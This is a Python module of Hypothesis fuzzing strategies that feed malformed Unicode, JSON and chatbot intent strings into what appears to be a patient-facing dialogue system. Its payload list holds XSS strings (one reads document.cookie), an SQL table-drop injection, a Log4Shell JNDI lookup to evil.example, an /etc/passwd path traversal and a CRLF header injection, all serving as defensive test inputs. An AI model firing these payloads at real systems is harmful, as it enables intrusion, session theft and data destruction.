"""Hypothesis strategies for bad input: JSON of every shape, every Unicode plane, HTML and script."""

from __future__ import annotations

import os

from hypothesis import strategies as st


def examples(count: int) -> int:
    """``count`` examples in CI; ten times as many with ``HYPOTHESIS_PROFILE=explore``."""
    return count * 10 if os.environ.get("HYPOTHESIS_PROFILE") == "explore" else count


# Every code point, including unpaired surrogates and control characters.
any_character = st.characters(min_codepoint=0, max_codepoint=0x10FFFF, exclude_categories=())
any_text = st.text(any_character, max_size=200)
control_text = st.text(st.characters(max_codepoint=0x9F, exclude_categories=()), min_size=1, max_size=40)


def plane_text(plane: int) -> st.SearchStrategy[str]:
    """Texts of code points from one Unicode plane (0-16)."""
    first = plane * 0x10000
    return st.text(
        st.characters(min_codepoint=first, max_codepoint=first + 0xFFFF, exclude_categories=()),
        min_size=1,
        max_size=30,
    )


every_plane_text = st.integers(0, 16).flatmap(plane_text)

HTML_AND_SCRIPT = (
    "<script>alert(1)</script>",
    '"><script>alert(document.cookie)</script>',
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "javascript:alert(1)",
    "<a href='//evil.example'>click</a>",
    "<b>bold</b> &lt;tag&gt; &amp;",
    "'; DROP TABLE events; --",
    "{{7*7}} ${7*7} #{7*7}",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "%00%0d%0aSet-Cookie: x=1",
    "\u202eevil\u202c",
    "/restart",
    "/greet",
    '/inform{"procedure": "nerve_block"}',
    '/inform{"procedure": 5}',
    "/inform{not json",
    "/nonexistent_intent",
)
html_or_script = st.tuples(st.text(max_size=20), st.sampled_from(HTML_AND_SCRIPT), st.text(max_size=20)).map(
    "".join
)

patient_text = st.one_of(any_text, every_plane_text, control_text, html_or_script)

json_scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(allow_nan=False, allow_infinity=False),
    st.text(max_size=30),
)
json_values = st.recursive(
    json_scalars,
    lambda children: st.one_of(
        st.lists(children, max_size=4), st.dictionaries(st.text(max_size=12), children, max_size=4)
    ),
    max_leaves=12,
)
